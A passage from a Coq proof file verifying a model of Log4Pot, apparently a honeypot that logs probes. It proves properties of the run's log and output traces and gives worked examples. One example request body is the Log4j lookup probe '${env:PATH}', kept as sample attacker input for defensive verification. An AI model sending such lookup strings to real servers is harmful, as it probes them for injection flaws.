    standard output receives one line for each port when the listeners are
    started, in the order of the ports, then one line for each port when
    they have stopped, and nothing else. *)
Theorem run_is_bracketed (ports : list Z) (header : option string) w :
  log_cannot_fail append_block w ->
  (forall p, In p ports -> server_bind p = Ok tt) ->
  (forall p, In p ports -> snd (traffic p) <> None) ->
  let r := main append_block server_bind traffic ports header w in
  fst r = Ok tt /\
  exists rest,
    trace (snd r) =
    (trace w
     ++ [FileWrite (log_line (log_record (latin1 "start")
                                (clock w (ticks w)) []));
         FileFlush]
     ++ rest)%list /\
    filter is_stdout rest = (map started ports ++ map stopped ports)%list /\
    exists before between after n,
      rest =
      (before
       ++ [FileWrite (log_line (log_record (latin1 "end") (clock w n) []))]
       ++ between ++ [FileClose] ++ after)%list /\
      ~ In FileClose before.
Proof.
  intros Hl Hb _ r.
  enough (exists w',
            main append_block server_bind traffic ports header w = (Ok tt, w')
            /\ exists serving n,
              trace w' =
              (trace w
               ++ [FileWrite (log_line (log_record (latin1 "start")
                                          (clock w (ticks w)) []));
                   FileFlush]
               ++ map started ports
               ++ serving
               ++ map stopped ports
               ++ [FileWrite (log_line (log_record (latin1 "end")
                                          (clock w n) []));
                   FileFlush; FileClose])%list /\
              Forall (fun e => match e with
                               | Stdout _ | FileClose => False
                               | _ => True
                               end) serving) as (w' & E & serving & n & T & F).
  { subst r. rewrite E. cbn [fst snd]. split; [reflexivity|].
    assert (Hs : forall (f : Z -> string) (l : list Z),
               filter is_stdout (map (fun p => Stdout (f p)) l)
               = map (fun p => Stdout (f p)) l)
      by (intros f l; induction l as [|p l IH]; [reflexivity|];
          cbn [map filter is_stdout]; now rewrite IH).
    assert (Hn : filter is_stdout serving = []).
    { clear T. induction F as [|e l He _ IH]; [reflexivity|].
      cbn [filter]. rewrite IH. now destruct e. }
    eexists. split; [rewrite T; reflexivity|]. split.
    - rewrite !filter_app, Hn. unfold started, stopped.
      rewrite !Hs. cbn [filter is_stdout]. now rewrite app_nil_r.
    - exists (map started ports ++ serving ++ map stopped ports)%list,
        [FileFlush], [], n.
      split; [rewrite <- !app_assoc; reflexivity|].
      intros Hin. apply in_app_or in Hin as [Hin|Hin];
        [|apply in_app_or in Hin as [Hin|Hin]].
      + apply in_map_iff in Hin as (p & Hp & _). discriminate Hp.
      + rewrite Forall_forall in F. exact (F _ Hin).
      + apply in_map_iff in Hin as (p & Hp & _). discriminate Hp. }
  clear r. unfold main. unfold bind at 1.
  rewrite (comprehension_ok header ports w Hb).
  set (ts := map _ ports).
  unfold bind at 1. unfold log_start.
  destruct (log_ok (latin1 "start") (latin1 "Log4Pot started") [] w Hl)
    as (O1 & L1 & C1 & _).
  pose proof (log_trace append_block (latin1 "start")
                (latin1 "Log4Pot started") [] w) as T1.
  destruct (log _ _ _ _ w) as [[[]|e] w1]; [|discriminate O1].
  cbn [snd] in L1, C1, T1.
  unfold bind at 1. rewrite for_each_emit.
  set (w2 := mkWorld _ _ _ _ _ _).
  unfold bind at 1.
  pose proof (start_join_all append_block traffic ts w2) as O3.
  pose proof (inv_threads append_block traffic
                (fun wa wb =>
                   (exists rest,
                      trace wb = (trace wa ++ rest)%list /\
                      Forall (fun e => match e with
                                       | Stdout _ | FileClose => False
                                       | _ => True
                                       end) rest) /\
                   (log_cannot_fail append_block wa ->
                    log_cannot_fail append_block wb) /\
                   clock wb = clock wa)) as H3.
  specialize (H3).
  assert (I3 : (exists rest,
                 trace (snd (for_each ts (start_join append_block traffic) w2))
                 = (trace w2 ++ rest)%list /\
                 Forall (fun e => match e with
                                  | Stdout _ | FileClose => False
                                  | _ => True
                                  end) rest) /\
               (log_cannot_fail append_block w2 ->
                log_cannot_fail append_block
                  (snd (for_each ts (start_join append_block traffic) w2))) /\
               clock (snd (for_each ts (start_join append_block traffic) w2))
               = clock w2).
  { apply H3; clear.
    - intros w. split; [exists []; now rewrite app_nil_r|]. auto.
    - intros wa wb wc ((r1 & T1 & F1) & L1 & C1) ((r2 & T2 & F2) & L2 & C2).
      split; [|split; [auto | congruence]].
      exists (r1 ++ r2)%list. rewrite T2, T1, app_assoc.
      split; [reflexivity | apply Forall_app; now split].
    - intros w. split; [exists []; now rewrite app_nil_r|]. auto.
    - intros e w He. cbn [emit snd trace clock].
      split; [|split; [|reflexivity]].
      + exists [e]. split; [reflexivity|]. constructor; [|constructor].
        now destruct e.
      + intros [H|H]; [now left | now right].
    - intros ty msg kw w _. rewrite log_trace.
      split; [|split].
      + eexists. split; [reflexivity|]. repeat constructor.
      + intros H. now apply log_ok.
      + rewrite log_run. cbv zeta. now destruct (blob w). }
  destruct I3 as ((serving & T3 & F3) & L3 & C3).
  destruct (for_each ts _ w2) as [[[]|e] w3]; [|discriminate O3].
  cbn [snd] in T3, L3, C3.
  unfold bind at 1. rewrite for_each_emit.
  set (w4 := mkWorld _ _ _ _ _ _).
  assert (L4 : log_cannot_fail append_block w4).
  { assert (L2 : log_cannot_fail append_block w2)
      by (destruct L1 as [H|H]; [now left | now right]).
    destruct (L3 L2) as [H|H]; [now left | now right]. }
  unfold close, bind, log_end.
  destruct (log_ok (latin1 "end") (latin1 "Log4Pot stopped") [] w4 L4)
    as (O5 & _ & _ & _).
  pose proof (log_trace append_block (latin1 "end")
                (latin1 "Log4Pot stopped") [] w4) as T5.
  destruct (log _ _ _ _ w4) as [[[]|e] w5]; [|discriminate O5].
  cbn [snd] in T5. cbn [emit]. eexists. split; [reflexivity|].
  exists serving, (ticks w4). split; [|exact F3].
  cbn [trace]. rewrite T5. subst w4. cbn [trace clock ticks].
  rewrite T3, C3. subst w2. cbn [trace clock]. rewrite T1, C1.
  subst ts. rewrite !map_map. cbn [port].
  rewrite <- !app_assoc. reflexivity.
Qed.

(** X12: a remote write that fails on the start event ends the run,
    although every port has been bound by then: the exception leaves the
    program with the start line in the local file as the only thing done;
    no listener serves a request, nothing is printed and the log file is
    not closed. *)
Theorem start_event_failure_ends_the_run
        (ports : list Z) (header : option string) w b e :
  (forall p, In p ports -> server_bind p = Ok tt) ->
  blob w = Some b ->
  let line := log_line (log_record (latin1 "start") (clock w (ticks w)) []) in
  fst (append_block b line) = Raise e ->
  let r := main append_block server_bind traffic ports header w in
  fst r = Raise e /\
  trace (snd r) = (trace w ++ [FileWrite line; FileFlush])%list.
Proof.
  intros Hb Hw line He r. subst r. unfold main, bind.
  rewrite (comprehension_ok header ports w Hb).
  unfold log_start. rewrite log_run. cbv zeta. rewrite Hw.
  fold line. rewrite He. split; reflexivity.
Qed.

End Serving.

(** ** Instances *)

Lemma port_line_example :
  convert_arg_line_to_args (latin1 " --port 8080")
  = [latin1 "--port"; latin1 "8080"].
Proof.
  destruct arguments_cut_at_white_space as [Hg Ha].
  change (latin1 " --port 8080")
    with (latin1 " " ++ latin1 "--port" ++ latin1 " " ++ latin1 "8080" ++ [])%list.
  rewrite (Hg (latin1 " ")) by reflexivity.
  rewrite (Ha (latin1 "--port"))
    by first [split; [discriminate | reflexivity] | reflexivity].
  rewrite (Hg (latin1 " ")) by reflexivity.
  rewrite (Ha (latin1 "8080"))
    by first [split; [discriminate | reflexivity] | exact I].
  reflexivity.
Defined.

Lemma broken_listener_example :
  (log_cannot_fail remote_ok (world0 None) /\
   (forall p, In p [8080]%Z -> bind_ok p = Ok tt) /\
   (forall p, In p [8080]%Z -> snd (loop_breaks_on_8080 p) <> None)) /\
  fst (main remote_ok bind_ok loop_breaks_on_8080 [8080]%Z
         (Some "Apache/2.4.1") (world0 None)) = Ok tt.
Proof.
  assert (H1 : log_cannot_fail remote_ok (world0 None)) by (left; reflexivity).
  assert (H2 : forall p, In p [8080]%Z -> bind_ok p = Ok tt) by reflexivity.
  assert (H3 : forall p, In p [8080]%Z -> snd (loop_breaks_on_8080 p) <> None)
    by (intros p [<-|[]]; discriminate).
  split; [auto|].
  exact (proj1 (run_is_bracketed remote_ok bind_ok loop_breaks_on_8080
                  [8080]%Z (Some "Apache/2.4.1") (world0 None) H1 H2 H3)).
Defined.

Lemma body_of_eleven_bytes_example :
  (In "Content-Length" (msg_keys (headers probe_in_body)) /\
   msg_get (headers probe_in_body) "Content-Length" = Some (str_int (Z.of_nat 11)) /\
   rfile_read (rfile probe_in_body) (Z.of_nat 11) = Ok (rfile probe_in_body) /\
   forallb (fun b => (Byte.to_N b <? 128)%N) (rfile probe_in_body) = true) /\
  read_body probe_in_body = Ok (Some (latin1 "${env:PATH}")).
Proof.
  assert (H1 : In "Content-Length" (msg_keys (headers probe_in_body)))
    by (left; reflexivity).
  assert (H2 : msg_get (headers probe_in_body) "Content-Length"
               = Some (str_int (Z.of_nat 11))) by reflexivity.
  assert (H3 : rfile_read (rfile probe_in_body) (Z.of_nat 11)
               = Ok (rfile probe_in_body)) by reflexivity.
  assert (H4 : forallb (fun b => (Byte.to_N b <? 128)%N)
                 (rfile probe_in_body) = true) by reflexivity.
  split; [auto|].
  exact (proj1 (proj2 (announced_ascii_body_is_logged remote_ok server0
                         probe_in_body 11 (rfile probe_in_body) (world0 None)
                         H1 H2 H3 H4))).
Defined.

Lemma unreachable_remote_at_start_example :
  (forall p, In p [8080]%Z -> bind_ok p = Ok tt) /\
  fst (main remote_down bind_ok one_probe_on_8080 [8080]%Z
         (Some "Apache/2.4.1") (world0 (Some [])))
  = Raise (OtherError "remote unavailable") /\
  wfile_writes
    (trace (snd (main remote_down bind_ok one_probe_on_8080 [8080]%Z
                   (Some "Apache/2.4.1") (world0 (Some []))))) = [].
Proof.
  assert (H1 : forall p, In p [8080]%Z -> bind_ok p = Ok tt) by reflexivity.
  split; [exact H1|].
  destruct (start_event_failure_ends_the_run remote_down bind_ok
              one_probe_on_8080 [8080]%Z (Some "Apache/2.4.1")
              (world0 (Some [])) [] (OtherError "remote unavailable")
              H1 eq_refl eq_refl) as [Hf Ht].
  split; [exact Hf|]. rewrite Ht. reflexivity.
Defined.

Lemma noon_clock_example :
  (forall k, valid_datetime (clock (world0 None) k)) /\
  exists ds,
    file_writes
      (trace (snd (main remote_ok bind_ok loop_breaks_on_8080 [8080]%Z
                     (Some "Apache/2.4.1") (world0 None))))
    = (file_writes (trace (world0 None)) ++ map log_line ds)%list /\
    Forall (fun d => exists k,
              field d "timestamp"
              = Some (JStr (latin1 (isoformat (clock (world0 None) k)))) /\
              iso8601 (isoformat (clock (world0 None) k)) = true) ds.
Proof.
  assert (H : forall k, valid_datetime (clock (world0 None) k))
    by (intros k; cbv; repeat split; discriminate).
  split; [exact H|].
  exact (every_event_is_timestamped remote_ok bind_ok loop_breaks_on_8080
           [8080]%Z (Some "Apache/2.4.1") (world0 None) H).
Defined.
